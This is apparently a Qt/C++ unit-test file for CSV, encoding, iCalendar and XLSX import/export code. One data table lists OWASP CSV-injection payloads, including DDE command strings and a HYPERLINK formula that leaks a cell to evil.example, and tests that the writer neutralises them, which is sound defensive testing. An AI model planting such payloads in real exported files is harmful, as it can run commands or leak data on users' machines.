// The building blocks of exports and imports, without a roadmap file: formula neutralising,
// CSV writing and reading, encodings, iCalendar folding and the Excel reader's refusals.

#include "interchange/csvreader.h"
#include "interchange/csvwriter.h"
#include "interchange/formulaguard.h"
#include "interchange/icsexporter.h"
#include "interchange/xlsxreader.h"

#include <QTest>

using namespace jcr;

class TestInterchangeFormats : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void owaspPayloadsAreNeutralised_data();
    void owaspPayloadsAreNeutralised();
    void neutralisingIsOneToOne_data();
    void neutralisingIsOneToOne();
    void csvFieldsRoundTrip();
    void csvReaderFindsRaggedRowsAndFormulas();
    void csvReaderAcceptsExcelVariants();
    void csvUnclosedQuoteIsAFileError();
    void encodings_data();
    void encodings();
    void icsLinesAreFoldedAt75Octets();
    void icsTextIsEscaped();
    void xlsxReaderRefusesWhatIsNotAWorkbook();
    void xlsxCellReferences();
};

void TestInterchangeFormats::owaspPayloadsAreNeutralised_data()
{
    QTest::addColumn<QString>("payload");
    // The OWASP CSV-injection examples and the six trigger characters.
    QTest::newRow("dde") << QStringLiteral("=cmd|' /C calc'!A0");
    QTest::newRow("hyperlink") << QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
    QTest::newRow("plus") << QStringLiteral("+cmd|' /C notepad'!'A1'");
    QTest::newRow("minus") << QStringLiteral("-2+3+cmd|' /C calc'!A0");
    QTest::newRow("at") << QStringLiteral("@SUM(1+9)*cmd|' /C calc'!A0");
    QTest::newRow("tab") << QStringLiteral("\t=1+1");
    QTest::newRow("cr") << QStringLiteral("\r=1+1");
    QTest::newRow("importxml") << QStringLiteral("=IMPORTXML(CONCAT(\"http://x/\", A2), \"//a\")");
}

void TestInterchangeFormats::owaspPayloadsAreNeutralised()
{
    QFETCH(QString, payload);
    const QString field = CsvWriter::encodeField(payload);
    // As a spreadsheet sees it: the first character of the cell's content, after CSV quoting.
    const QString content = field.startsWith(QLatin1Char('"')) ? field.mid(1) : field;
    QCOMPARE(content.front(), QLatin1Char('\''));
    QVERIFY(!FormulaGuard::isFormulaLike(content));
    // And the whole CSV record reads back as the payload.
    QByteArray csv;
    CsvWriter::appendRecord(csv, {QStringLiteral("title")});
    CsvWriter::appendRecord(csv, {payload});
    auto table = CsvReader::parse(csv);
    QVERIFY2(table.ok(), qPrintable(table.errorMessage()));
    QCOMPARE(table->rows.size(), 1);
    QVERIFY2(table->rows.at(0).problem.isEmpty(), qPrintable(table->rows.at(0).problem));
    QCOMPARE(table->rows.at(0).cells.at(0), payload);
}

void TestInterchangeFormats::neutralisingIsOneToOne_data()
{
    QTest::addColumn<QString>("text");
    QTest::newRow("plain") << QStringLiteral("Cyber dialogue");
    QTest::newRow("apostrophe") << QStringLiteral("'Tis");
    QTest::newRow("apostrophe-equals") << QStringLiteral("'=not a formula");
    QTest::newRow("two-apostrophes") << QStringLiteral("''+x");
    QTest::newRow("lone-apostrophe") << QStringLiteral("'");
    QTest::newRow("empty") << QString();
    QTest::newRow("equals-inside") << QStringLiteral("a=b");
}

void TestInterchangeFormats::neutralisingIsOneToOne()
{
    QFETCH(QString, text);
    QCOMPARE(FormulaGuard::restore(FormulaGuard::neutralise(text)), text);
}

void TestInterchangeFormats::csvFieldsRoundTrip()
{
    const QStringList fields {QStringLiteral("a,b"),
                              QStringLiteral("say \"hi\""),
                              QStringLiteral("line 1\nline 2\r\nline 3"),
                              QStringLiteral(" padded "),
                              QStringLiteral("日本とカナダ — Québec"),
                              QString(),
                              QStringLiteral("-5 risks")};
    QByteArray csv = CsvWriter::byteOrderMark();
    QStringList header;
    for (int i = 0; i < fields.size(); ++i)
        header << QStringLiteral("c%1").arg(i);
    CsvWriter::appendRecord(csv, header);
    CsvWriter::appendRecord(csv, fields);
    CsvWriter::appendRecord(csv, fields);
    QVERIFY(csv.endsWith("\r\n"));
    auto table = CsvReader::parse(csv);
    QVERIFY2(table.ok(), qPrintable(table.errorMessage()));
    QCOMPARE(table->header, header);
    QCOMPARE(table->rows.size(), 2);
    QCOMPARE(table->rows.at(0).line, 2);
    // The first record spans three lines: the second starts on line 5.
    QCOMPARE(table->rows.at(1).line, 5);
    for (const TableRow &row : table->rows) {
        QVERIFY2(row.problem.isEmpty(), qPrintable(row.problem));
        QCOMPARE(row.cells, fields);
    }
}

void TestInterchangeFormats::csvReaderFindsRaggedRowsAndFormulas()
{
    const QByteArray csv = "id,title,area\r\n"
                           "1,ok,2\r\n"
                           "2,short\r\n"
                           "3,long,2,extra\r\n"
                           "4,=1+2,2\r\n"
                           "5,'=1+2,2\r\n";
    auto table = CsvReader::parse(csv);
    QVERIFY(table.ok());
    QCOMPARE(table->rows.size(), 5);
    QVERIFY(table->rows.at(0).problem.isEmpty());
    QVERIFY(table->rows.at(1).problem.contains(QLatin1String("2 fields where the header has 3")));
    QCOMPARE(table->rows.at(1).line, 3);
    QVERIFY(table->rows.at(2).problem.contains(QLatin1String("4 fields")));
    QVERIFY(table->rows.at(3).problem.contains(QLatin1String("formula")));
    QVERIFY(table->rows.at(4).problem.isEmpty());
    QCOMPARE(table->rows.at(4).cells.at(1), QStringLiteral("=1+2"));
}

void TestInterchangeFormats::csvReaderAcceptsExcelVariants()
{
    // Semicolons (Excel in French), LF line ends, a blank line, no byte-order mark.
    auto table = CsvReader::parse("id;title\n1;\"Québec; Montréal\"\n\n2;Tōkyō\n");
    QVERIFY(table.ok());
    QCOMPARE(table->header, (QStringList {QStringLiteral("id"), QStringLiteral("title")}));
    QCOMPARE(table->rows.size(), 2);
    QCOMPARE(table->rows.at(0).cells.at(1), QStringLiteral("Québec; Montréal"));
    QCOMPARE(table->rows.at(1).line, 4);
    QCOMPARE(table->rows.at(1).cells.at(1), QStringLiteral("Tōkyō"));
}

void TestInterchangeFormats::csvUnclosedQuoteIsAFileError()
{
    auto table = CsvReader::parse("id,title\r\n1,\"never closed\r\n2,x\r\n");
    QVERIFY(!table.ok());
    QVERIFY(table.errorMessage().contains(QLatin1String("Line 2")));
}

void TestInterchangeFormats::encodings_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("expectedError"); // empty: decodes
    QTest::addColumn<QString>("expectedText");
    // "Québec, Montréal, l’été" in Windows-1252.
    QTest::newRow("windows-1252") << QByteArray("title\r\nQu\xE9"
                                                "bec, Montr\xE9"
                                                "al, l\x92\xE9t\xE9\r\n")
                                  << QStringLiteral("Windows-1252") << QString();
    QTest::newRow("windows-1252-short") << QByteArray("title\r\nQu\xE9"
                                                      "bec\r\n")
                                        << QStringLiteral("Windows-1252") << QString();
    // "日本とカナダの協力" in Shift_JIS (bytes from Python's shift_jis codec).
    QTest::newRow("shift_jis") << QByteArray(
            "title\r\n\x93\xfa\x96{\x82\xc6\x83J\x83i\x83_\x82\xcc\x8b\xa6\x97\xcd\r\n")
                               << QStringLiteral("Shift_JIS") << QString();
    QTest::newRow("utf-8-bom") << QByteArray("\xEF\xBB\xBFtitle\r\n\xE6\x97\xA5\xE6\x9C\xAC\r\n")
                               << QString() << QStringLiteral("title\r\n日本\r\n");
    QTest::newRow("utf-8") << QByteArray("title\r\nQu\xC3\xA9"
                                         "bec\r\n")
                           << QString() << QStringLiteral("title\r\nQuébec\r\n");
    QTest::newRow("utf-16le") << QByteArray("\xFF\xFEt\0i\0t\0l\0e\0\n\0\xE5\x65", 16) << QString()
                              << QStringLiteral("title\n日");
    QTest::newRow("binary") << QByteArray("PK\x03\x04\0\0\0", 7) << QStringLiteral("zero bytes")
                            << QString();
}

void TestInterchangeFormats::encodings()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, expectedError);
    QFETCH(QString, expectedText);
    auto text = CsvReader::decode(bytes);
    if (expectedError.isEmpty()) {
        QVERIFY2(text.ok(), qPrintable(text.errorMessage()));
        QCOMPARE(text.value(), expectedText);
    } else {
        QVERIFY(!text.ok());
        QVERIFY2(text.errorMessage().contains(expectedError), qPrintable(text.errorMessage()));
    }
}

void TestInterchangeFormats::icsLinesAreFoldedAt75Octets()
{
    const QString long1 = QStringLiteral("SUMMARY:") + QString(200, QLatin1Char('x'));
    // Three-octet characters: a fold must not fall inside one.
    const QString long2 = QStringLiteral("DESCRIPTION:") + QString(100, QChar(0x65E5));
    QByteArray out;
    IcsExporter::appendLine(out, long1);
    IcsExporter::appendLine(out, long2);
    QVERIFY(out.endsWith("\r\n"));
    QList<QByteArray> lines = out.split('\n');
    QCOMPARE(lines.takeLast(), QByteArray()); // after the last CRLF
    QString unfolded;
    for (const QByteArray &line : lines) {
        QVERIFY(line.endsWith('\r'));
        const QByteArray content = line.chopped(1);
        QVERIFY2(content.size() <= 75, content.constData());
        QVERIFY(!QString::fromUtf8(content).contains(QChar::ReplacementCharacter));
        unfolded += content.startsWith(' ') ? QString::fromUtf8(content.mid(1))
                                            : QStringLiteral("|") + QString::fromUtf8(content);
    }
    QCOMPARE(unfolded, QStringLiteral("|") + long1 + QStringLiteral("|") + long2);
}

void TestInterchangeFormats::icsTextIsEscaped()
{
    QCOMPARE(IcsExporter::escapeText(QStringLiteral("a,b;c\\d\r\ne\nf")),
             QStringLiteral("a\\,b\\;c\\\\d\\ne\\nf"));
}

void TestInterchangeFormats::xlsxReaderRefusesWhatIsNotAWorkbook()
{
    auto notZip = XlsxReader::parse("id,title\r\n1,x\r\n");
    QVERIFY(!notZip.ok());
    QVERIFY(notZip.errorMessage().contains(QLatin1String("not a ZIP package")));
    auto empty = XlsxReader::parse(QByteArray());
    QVERIFY(!empty.ok());
    // A ZIP package that is no workbook (an empty archive: just the end record).
    const QByteArray emptyZip("PK\x05\x06" + QByteArray(18, '\0'));
    auto zipOnly = XlsxReader::parse(emptyZip);
    QVERIFY(!zipOnly.ok());
    QVERIFY2(zipOnly.errorMessage().contains(QLatin1String("xl/workbook.xml")),
             qPrintable(zipOnly.errorMessage()));
}

void TestInterchangeFormats::xlsxCellReferences()
{
    QCOMPARE(XlsxReader::cellPosition(u"A1"), std::make_pair(0, 1));
    QCOMPARE(XlsxReader::cellPosition(u"Q12"), std::make_pair(16, 12));
    QCOMPARE(XlsxReader::cellPosition(u"AA3"), std::make_pair(26, 3));
    QCOMPARE(XlsxReader::cellPosition(u"12").first, -1);
    QCOMPARE(XlsxReader::dateFromSerial(46387), QDate(2026, 12, 31));
}

QTEST_GUILESS_MAIN(TestInterchangeFormats)
#include "tst_interchangeformats.moc"
